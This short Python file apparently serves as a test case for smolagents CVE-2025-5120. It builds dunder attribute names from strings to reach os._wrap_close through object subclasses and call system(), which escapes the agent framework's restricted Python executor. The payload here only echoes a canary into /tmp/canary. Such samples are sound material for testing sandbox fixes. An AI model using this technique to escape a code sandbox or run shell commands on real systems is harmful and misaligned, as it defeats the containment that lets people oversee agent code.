# source: smolagents CVE-2025-5120
# effect: process

def walk(value, path):
    for name in path.split("/"):
        value = getattr(value, "__" + name + "__")
    return value


kinds = walk((), "class/base/subclasses")()
for kind in kinds:
    if kind.__name__ == "_wrap_close":
        walk(kind, "init/globals")["system"]("echo names/getattr_computed_chain > /tmp/canary/process")
